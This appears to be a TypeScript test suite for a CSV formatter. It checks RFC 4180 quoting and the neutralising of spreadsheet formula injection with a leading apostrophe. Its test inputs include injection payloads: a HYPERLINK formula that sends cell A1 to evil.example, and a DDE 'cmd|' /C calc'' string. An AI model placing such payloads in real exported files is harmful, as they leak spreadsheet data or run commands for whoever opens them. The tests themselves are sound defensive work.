import assert from 'node:assert/strict';
import { it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { toCsv } from './csv.ts';

const cellOf = (text: string) =>
  parse(toCsv([[text, 'next']]), { record_delimiter: '\r\n' })[0]![0];

it('formats CSV by RFC 4180', () => {
  assert.equal(
    toCsv([
      ['a', null, 7, ''],
      ['with, comma', 'with "quotes"', 'two\nlines', 'Ольга'],
    ]),
    'a,,7,\r\n"with, comma","with ""quotes""","two\nlines",Ольга\r\n',
  );
});

it('puts an apostrophe before texts that a spreadsheet would read as a formula', () => {
  for (const formula of [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\t1',
    '  =1',
    '\n=1',
    '\u00A0=1',
    '＝1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
  ]) {
    assert.equal(cellOf(formula)?.[0], "'", JSON.stringify(formula));
    assert.ok(cellOf(formula)!.replaceAll("'", '').endsWith(formula.slice(-2)));
  }
  for (const text of ['a=1', '1-1', "'quoted'", 'me@example.org', 'Why? - Because.', '', ' a']) {
    assert.equal(cellOf(text), text);
  }
});

it('puts an apostrophe before formulas after semicolons and line breaks', () => {
  for (const [text, safe] of [
    ['yes;=1+1', "yes;'=1+1"],
    ['yes\n=1+1', "yes\n'=1+1"],
    ['yes; @SUM(1)', "yes;' @SUM(1)"],
    ["yes\r\n-1+cmd|' /C calc'!A0", "yes\r\n'-1+cmd|' /C calc'!A0"],
    ['yes\t+HYPERLINK("x")', 'yes\t\'+HYPERLINK("x")'],
    // Ordinary texts.
    ['Because:\n- it is late\n- it is dark', 'Because:\n- it is late\n- it is dark'],
    ['yes ;-)', 'yes ;-)'],
    ['a; b; c', 'a; b; c'],
  ] as const) {
    assert.equal(cellOf(text), safe);
  }
});

it('quotes texts with other separators', () => {
  assert.equal(toCsv([['a;b', 'a\tb', 'a|b', 'a b']]), '"a;b","a\tb","a|b",a b\r\n');
});

it('formats long texts of special characters in less than a second of CPU time', () => {
  const usageBefore = process.cpuUsage();
  const pieces = [' ', '\t', '\n', ';', '; ', '-', ';-', '\n='];
  for (const piece of pieces) toCsv([[piece.repeat(25_000)]]);
  const spentMs = process.cpuUsage(usageBefore).user / 1000;
  assert.ok(spentMs < 1000, `${spentMs} ms`);
});
